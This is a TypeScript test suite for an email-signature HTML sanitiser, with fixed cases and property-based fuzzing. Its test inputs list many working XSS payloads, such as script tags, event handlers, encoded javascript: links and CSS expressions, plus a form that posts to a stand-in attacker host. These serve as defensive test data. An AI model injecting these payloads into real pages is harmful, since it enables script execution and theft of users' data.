import fc from 'fast-check';
import sanitizeHtml from 'sanitize-html';
import { SIGNATURE_MAX_LENGTH, type SignatureMode, sanitizeSignature, signatureAsText } from '../../domain/signature';

const MODES: SignatureMode[] = ['rich-text', 'html'];

/** Must never appear in sanitised output, case-insensitively. */
const FORBIDDEN = ['<script', 'onerror', 'onload', 'javascript:', '<iframe', '<form', '<svg', 'expression(', '<style', '<meta', '<base'];
const forbiddenIn = (output: string) => FORBIDDEN.filter((fragment) => output.toLowerCase().includes(fragment));

/** Every element of `html` with its attributes as parsed (copied: sanitize-html then deletes the ones it filters). */
const elementsOf = (html: string) => {
  const elements: { tag: string; attribs: Record<string, string> }[] = [];
  sanitizeHtml(html, { onOpenTag: (tag, attribs) => elements.push({ tag, attribs: { ...attribs } }) });
  return elements;
};

const RICH_TEXT_TAGS = ['p', 'br', 'strong', 'b', 'em', 'i', 'u', 's', 'a', 'span', 'ul', 'ol', 'li', 'img', 'blockquote'];
const HTML_TAGS = [
  ...RICH_TEXT_TAGS,
  ...['div', 'table', 'tbody', 'thead', 'tr', 'td', 'th', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6'],
  ...['hr', 'font', 'small', 'sup', 'sub', 'center'],
];
const TABLE_ATTRIBUTES = ['colspan', 'rowspan', 'align', 'valign', 'width', 'cellpadding', 'cellspacing', 'border'];
const allowedAttributes = (mode: SignatureMode, tag: string): string[] => {
  const byTag: Record<string, string[]> = { a: ['href', 'target', 'rel'], img: ['src', 'alt', 'width', 'height'] };
  if (mode === 'html') {
    for (const table of ['table', 'tbody', 'thead', 'tr', 'td', 'th']) byTag[table] = TABLE_ATTRIBUTES;
    byTag.font = ['color', 'face', 'size'];
  }
  return ['style', ...(byTag[tag] ?? [])];
};

/** Everything that may legitimately remain: allowed tags, attributes, URL schemes and link attributes. */
const expectOnlyAllowedMarkup = (mode: SignatureMode, output: string) => {
  for (const { tag, attribs } of elementsOf(output)) {
    expect(mode === 'html' ? HTML_TAGS : RICH_TEXT_TAGS).toContain(tag);
    for (const attribute of Object.keys(attribs)) expect(allowedAttributes(mode, tag)).toContain(attribute);
    if (tag === 'a') {
      expect(attribs.href).toMatch(/^(https?|mailto|tel):/i);
      expect(attribs.rel).toBe('noopener noreferrer');
      expect([undefined, '_blank']).toContain(attribs.target);
    }
    if (tag === 'img') expect(attribs.src).toMatch(/^https?:/i);
    if (attribs.style !== undefined) expect(attribs.style).not.toMatch(/url|expression|\\|@import|javascript|behavior|binding/i);
  }
};

describe('SIGNATURE_MAX_LENGTH', () => {
  it('is 10 000 characters', () => {
    expect(SIGNATURE_MAX_LENGTH).toBe(10_000);
  });
});

describe('sanitizeSignature: XSS vectors', () => {
  const vectors: [string, string][] = [
    ['script tag', '<p>Jane</p><script>alert(1)</script>'],
    ['uppercase script with src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>Jane'],
    ['script split by a tag', '<scr<script>ipt>alert(1)</script>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['img onerror/onload on a valid image', '<img src="https://ok.example/a.png" onerror="alert(1)" onload="alert(2)">'],
    ['event handler on text', '<p onclick="alert(1)" onmouseover="alert(1)">Jane</p>'],
    ['javascript: href', '<a href="javascript:alert(1)">x</a>'],
    ['mixed-case scheme', '<a href="JaVaScRiPt:alert(1)">x</a>'],
    ['decimal entity in scheme', '<a href="&#106;avascript:alert(1)">x</a>'],
    ['hex entities, encoded colon', '<a href="&#x6A;&#x61;vascript&#58;alert(1)">x</a>'],
    ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
    ['tab entity inside the scheme', '<a href="java&#09;script:alert(1)">x</a>'],
    ['raw tab inside the scheme', '<a href="java\tscript:alert(1)">x</a>'],
    ['newline inside the scheme', '<a href="java\nscript:alert(1)">x</a>'],
    ['leading spaces and control characters', '<a href=" \u0001 javascript:alert(1)">x</a>'],
    ['vbscript: href', '<a href="vbscript:msgbox(1)">x</a>'],
    ['data: href', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
    ['svg onload', '<svg onload=alert(1)>'],
    ['script inside svg', '<svg><script>alert(1)</script></svg>'],
    ['math with xlink:href', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ['iframe', '<iframe src="https://evil.example"></iframe>'],
    ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['form with action', '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['style @import', "<style>@import 'https://evil.example/x.css';</style><p>Jane</p>"],
    ['style block with expression', '<style>p { width: expression(alert(1)) }</style>'],
    ['background url(javascript:)', '<div style="background:url(javascript:alert(1))">x</div>'],
    ['background-image remote url', '<span style="background-image: url(https://evil.example/track.png)">x</span>'],
    ['css expression()', '<div style="width: expression(alert(1))">x</div>'],
    ['css escape hiding expression', '<span style="color: e\\xpression(alert(1))">x</span>'],
    ['comment hiding expression', '<span style="color: exp/**/ression(alert(1))">x</span>'],
    ['base href', '<base href="javascript:alert(1)//"><a href="/x">x</a>'],
    ['object data', '<object data="javascript:alert(1)"></object>'],
    ['embed src', '<embed src="javascript:alert(1)">'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['data: image', '<img src="data:image/png;base64,iVBORw0KGgo=">'],
    ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['javascript: image', '<img src="javascript:alert(1)">'],
    ['protocol-relative image', '<img src="//evil.example/x.png">'],
    ['table background attribute', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
    ['conditional comment', '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->Jane'],
    ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['textarea content', '<textarea><img src=x onerror=alert(1)></textarea>'],
    ['title content', '<title><img src=x onerror=alert(1)></title>'],
    ['CDATA', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
    ['entity-encoded markup stays text', '&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
    ['video source onerror', '<video><source onerror="alert(1)"></video>'],
    ['unclosed attribute quote', '<img src="https://ok.example/a.png" alt="x onerror=alert(1)//'],
  ];

  describe.each(MODES)('%s mode', (mode) => {
    it.each(vectors)('%s', (_name, input) => {
      const output = sanitizeSignature(mode, input);
      expect(forbiddenIn(output)).toEqual([]);
      expect(output).not.toMatch(/vbscript:|data:|evil\.example|@import/i);
      expectOnlyAllowedMarkup(mode, output);
      expect(sanitizeSignature(mode, output)).toBe(output);
    });
  });

  it('keeps the visible text of what it removes, but not script or style contents', () => {
    expect(sanitizeSignature('html', '<p>Jane</p><script>alert(1)</script>')).toBe('<p>Jane</p>');
    expect(sanitizeSignature('html', '<a href="javascript:alert(1)">Click</a>')).toBe('<span>Click</span>');
    expect(sanitizeSignature('html', '<form><label>Name</label></form>')).toBe('Name');
    expect(sanitizeSignature('html', '<style>p{color:red}</style><p>Jane</p>')).toBe('<p>Jane</p>');
    expect(sanitizeSignature('html', '&lt;script&gt;')).toBe('&lt;script&gt;');
  });

  it('throws a RangeError for an unknown mode', () => {
    expect(() => sanitizeSignature('markdown' as SignatureMode, '<p>x</p>')).toThrow(RangeError);
    expect(() => sanitizeSignature('toString' as SignatureMode, '<p>x</p>')).toThrow(RangeError);
  });
});

describe('sanitizeSignature: kept formatting', () => {
  const kept: [string, SignatureMode[], string, string][] = [
    ['bold and italic', MODES, '<p><strong>Jane</strong> <b>Doe</b>, <em>CEO</em> <i>Acme</i></p>', '<p><strong>Jane</strong> <b>Doe</b>, <em>CEO</em> <i>Acme</i></p>'],
    ['underline and strike', MODES, '<u>u</u><s>s</s><br>', '<u>u</u><s>s</s><br />'],
    ['https link', MODES, '<a href="https://acme.example/team">Acme</a>', '<a href="https://acme.example/team" rel="noopener noreferrer">Acme</a>'],
    ['http link', MODES, '<a href="http://acme.example">Acme</a>', '<a href="http://acme.example" rel="noopener noreferrer">Acme</a>'],
    ['mailto link', MODES, '<a href="mailto:jane@acme.example">Email</a>', '<a href="mailto:jane@acme.example" rel="noopener noreferrer">Email</a>'],
    ['tel link', MODES, '<a href="tel:+33123456789">Call</a>', '<a href="tel:+33123456789" rel="noopener noreferrer">Call</a>'],
    ['link target _blank kept, rel replaced', MODES, '<a href="https://acme.example" target="_blank" rel="opener">A</a>', '<a href="https://acme.example" target="_blank" rel="noopener noreferrer">A</a>'],
    ['other link targets dropped', MODES, '<a href="https://acme.example" target="_top">A</a>', '<a href="https://acme.example" rel="noopener noreferrer">A</a>'],
    ['query string ampersands', MODES, '<a href="https://acme.example/?a=1&amp;b=2">A</a>', '<a href="https://acme.example/?a=1&amp;b=2" rel="noopener noreferrer">A</a>'],
    ['relative link becomes text', MODES, '<a href="/team">Team</a>', '<span>Team</span>'],
    ['image with https src', MODES, '<img src="https://cdn.acme.example/logo.png" alt="Acme" width="120" height="40" title="t" class="c">', '<img src="https://cdn.acme.example/logo.png" alt="Acme" width="120" height="40" />'],
    ['image with empty alt', MODES, '<img src="https://cdn.acme.example/logo.png" alt="">', '<img src="https://cdn.acme.example/logo.png" alt="" />'],
    ['linked image', MODES, '<a href="https://acme.example"><img src="https://cdn.acme.example/logo.png"></a>', '<a href="https://acme.example" rel="noopener noreferrer"><img src="https://cdn.acme.example/logo.png" /></a>'],
    ['lists', MODES, '<ul><li>one</li></ul><ol><li>two</li></ol>', '<ul><li>one</li></ul><ol><li>two</li></ol>'],
    ['blockquote', MODES, '<blockquote>Quote</blockquote>', '<blockquote>Quote</blockquote>'],
    ['safe inline colour and font styles', MODES, '<span style="color: #1a73e8; font-weight: bold; font-family: \'Segoe UI\', Arial, sans-serif">Jane</span>', '<span style="color:#1a73e8;font-weight:bold;font-family:\'Segoe UI\', Arial, sans-serif">Jane</span>'],
    ['rgb colours and borders', MODES, '<p style="border-bottom: 1px solid rgb(0, 0, 0); background-color: rgba(255,255,255,0.5); margin: 0 0 4px; line-height: 1.4">x</p>', '<p style="border-bottom:1px solid rgb(0, 0, 0);background-color:rgba(255,255,255,0.5);margin:0 0 4px;line-height:1.4">x</p>'],
    ['unsafe style properties dropped, safe ones kept', MODES, '<span style="position: fixed; color: red; z-index: 9999">x</span>', '<span style="color:red">x</span>'],
    ['class and id dropped', MODES, '<p class="sig" id="sig">x</p>', '<p>x</p>'],
    ['table in html mode', ['html'], '<table cellpadding="0" cellspacing="0" border="0" width="100%"><tbody><tr><td valign="top" width="80"><img src="https://cdn.acme.example/a.png"></td><td align="left" colspan="2">Jane</td></tr></tbody></table>', '<table cellpadding="0" cellspacing="0" border="0" width="100%"><tbody><tr><td valign="top" width="80"><img src="https://cdn.acme.example/a.png" /></td><td align="left" colspan="2">Jane</td></tr></tbody></table>'],
    ['table text only in rich-text mode', ['rich-text'], '<table><tr><td>Jane</td></tr></table>', 'Jane'],
    ['html-only tags in html mode', ['html'], '<div><h1>J</h1><h6>D</h6><hr><small>s</small><sup>1</sup><sub>2</sub><center>c</center></div>', '<div><h1>J</h1><h6>D</h6><hr /><small>s</small><sup>1</sup><sub>2</sub><center>c</center></div>'],
    ['html-only tags dropped in rich-text mode', ['rich-text'], '<div><h1>J</h1><hr><small>s</small><center>c</center></div>', 'Jsc'],
    ['font in html mode', ['html'], '<font color="#333333" face="Arial" size="2">Jane</font>', '<font color="#333333" face="Arial" size="2">Jane</font>'],
    ['font dropped in rich-text mode', ['rich-text'], '<font color="#333333">Jane</font>', 'Jane'],
    ['entities', MODES, '<p>Tom &amp; Jerry &lt;3</p>', '<p>Tom &amp; Jerry &lt;3</p>'],
  ];

  it.each(kept.flatMap(([name, modes, input, expected]) => modes.map((mode) => [name, mode, input, expected] as const)))(
    '%s (%s)',
    (_name, mode, input, expected) => {
      expect(sanitizeSignature(mode, input)).toBe(expected);
      expect(sanitizeSignature(mode, expected)).toBe(expected);
    },
  );
});

describe('signatureAsText', () => {
  it.each([
    ['paragraphs', '<p>Jane Doe</p><p>CEO, Acme</p>', 'Jane Doe\nCEO, Acme'],
    ['br', 'Jane Doe<br>CEO', 'Jane Doe\nCEO'],
    ['two br keep one blank line', 'Jane<br><br>CEO', 'Jane\n\nCEO'],
    ['many br keep at most one blank line', 'Jane<br><br><br><br>CEO', 'Jane\n\nCEO'],
    ['divs', '<div>Jane</div><div><div>CEO</div></div>', 'Jane\nCEO'],
    ['list items', '<ul><li>one</li><li>two</li></ul>after', 'one\ntwo\nafter'],
    ['table rows and cells', '<table><tr><td>Jane</td><td>Doe</td></tr><tr><td>CEO</td></tr></table>', 'Jane Doe\nCEO'],
    ['link with text', '<a href="https://acme.example">Acme</a>', 'Acme (https://acme.example)'],
    ['link whose text is the URL', '<a href="https://acme.example">https://acme.example</a>', 'https://acme.example'],
    ['mailto link showing the address', '<a href="mailto:jane@acme.example">jane@acme.example</a>', 'jane@acme.example'],
    ['mailto link with other text', '<a href="mailto:jane@acme.example">Email me</a>', 'Email me (mailto:jane@acme.example)'],
    ['tel link showing the number', '<a href="tel:+33123456789">+33123456789</a>', '+33123456789'],
    ['linked image', '<a href="https://acme.example"><img src="https://cdn.acme.example/logo.png" alt="Acme"></a>', 'https://acme.example'],
    ['image alone', '<img src="https://cdn.acme.example/logo.png" alt="Acme">', ''],
    ['entities decoded', '<p>Tom &amp; Jerry &lt;3 &eacute;t&eacute; &quot;q&quot; &#169;</p>', 'Tom & Jerry <3 été "q" ©'],
    ['whitespace collapsed', '  <p>  Jane \n\t  Doe  </p>\n\n  <p> CEO </p>  ', 'Jane Doe\nCEO'],
    ['non-breaking spaces collapsed', 'Jane&nbsp;&nbsp;&nbsp;Doe', 'Jane Doe'],
    ['inline formatting is just text', '<b>Jane</b> <i>Doe</i>', 'Jane Doe'],
    ['script and style contents left out', '<style>p{}</style><script>alert(1)</script>Jane', 'Jane'],
    ['unsafe links shown as their text only', '<a href="javascript:alert(1)">Click</a>', 'Click'],
    ['headings and rules', '<h1>Jane</h1><hr><p>CEO</p>', 'Jane\nCEO'],
    ['empty', '', ''],
  ])('%s', (_name, html, text) => {
    expect(signatureAsText(html)).toBe(text);
  });
});

describe('properties', () => {
  const RUNS = { numRuns: 400 };
  /** Dangerous markup; the forbidden words only ever occur inside markup, never as visible text. */
  const DANGEROUS = [
    '<script>alert(1)</script>',
    '<script src="https://evil.example/x.js"></script>',
    '<img src=x onerror=alert(1)>',
    '<img src="https://ok.example/a.png" onload="alert(1)">',
    '<a href="javascript:alert(1)">',
    '<a href="JaVaScRiPt:alert(1)">',
    '<a href="&#106;avascript&#58;alert(1)">',
    '<a href="java&#09;script:alert(1)">',
    '<a href="data:text/html,x">',
    '</a>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '</svg>',
    '<iframe src="https://evil.example">',
    '</iframe>',
    '<form action="https://evil.example">',
    '</form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">',
    '<span style="width: expression(alert(1))">',
    '<base href="javascript:alert(1)//">',
    '<object data="javascript:alert(1)">',
    '<embed src="javascript:alert(1)">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<math><mi xlink:href="javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea>',
    '<title>',
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
  ];
  const HARMLESS = [
    'Jane Doe',
    ' CEO, Acme ',
    '<p>',
    '</p>',
    '<b>',
    '</b>',
    '<br>',
    '<div>',
    '</div>',
    '<table><tr><td>',
    '</td></tr></table>',
    '<li>',
    '<a href="https://acme.example">',
    '<a href="mailto:jane@acme.example" target="_blank">',
    '<img src="https://cdn.acme.example/logo.png" alt="Acme">',
    '<span style="color: #333; font-size: 12px">',
    '</span>',
    'a < b & c > d',
    '&amp; &nbsp; &lt;',
    '"',
    "'",
    '\n',
  ];
  const soupArb = fc
    .array(fc.oneof(fc.constantFrom(...DANGEROUS), fc.constantFrom(...HARMLESS)), { maxLength: 12 })
    .map((fragments) => fragments.join(''));
  /** Arbitrary HTML-ish strings: tag and attribute syntax with a few letters. */
  const htmlishArb = fc
    .array(fc.constantFrom(...'<>/="\'&;:# \n!-abeipsty'.split(''), 'script', 'img', 'a', ' href=', ' on', 'style=', 'javascript:', '&#'), {
      maxLength: 40,
    })
    .map((parts) => parts.join(''));
  const modeArb = fc.constantFrom(...MODES);

  it('sanitised output never contains a forbidden fragment', () => {
    fc.assert(
      fc.property(modeArb, soupArb, (mode, input) => {
        expect(forbiddenIn(sanitizeSignature(mode, input))).toEqual([]);
      }),
      RUNS,
    );
  });

  it('sanitising is idempotent', () => {
    fc.assert(
      fc.property(modeArb, fc.oneof(soupArb, htmlishArb, fc.string()), (mode, input) => {
        const once = sanitizeSignature(mode, input);
        expect(sanitizeSignature(mode, once)).toBe(once);
      }),
      RUNS,
    );
  });

  it('sanitised output holds only allowed tags, attributes and URLs', () => {
    fc.assert(
      fc.property(modeArb, fc.oneof(soupArb, htmlishArb), (mode, input) => {
        expectOnlyAllowedMarkup(mode, sanitizeSignature(mode, input));
      }),
      RUNS,
    );
  });

  it('is idempotent when dropping a tag leaves items nested (found by fast-check)', () => {
    const input = '<li><form action="https://evil.example"><li>';
    for (const mode of ['rich-text', 'html'] as const) {
      const once = sanitizeSignature(mode, input);
      expect(sanitizeSignature(mode, once)).toBe(once);
      expect(sanitizeSignature('html', sanitizeSignature('rich-text', input))).toBe(sanitizeSignature('rich-text', input));
    }
  });

  it('a rich-text signature is unchanged by html-mode sanitising', () => {
    fc.assert(
      fc.property(fc.oneof(soupArb, htmlishArb), (input) => {
        const richText = sanitizeSignature('rich-text', input);
        expect(sanitizeSignature('html', richText)).toBe(richText);
      }),
      RUNS,
    );
  });

  it('the text rendering is trimmed, with single spaces and at most one blank line in a row', () => {
    fc.assert(
      fc.property(fc.oneof(soupArb, htmlishArb), (input) => {
        const text = signatureAsText(input);
        expect(text).toBe(text.trim());
        expect(text).not.toMatch(/ {2}| \n|\n |\n{3}/);
      }),
      RUNS,
    );
  });
});
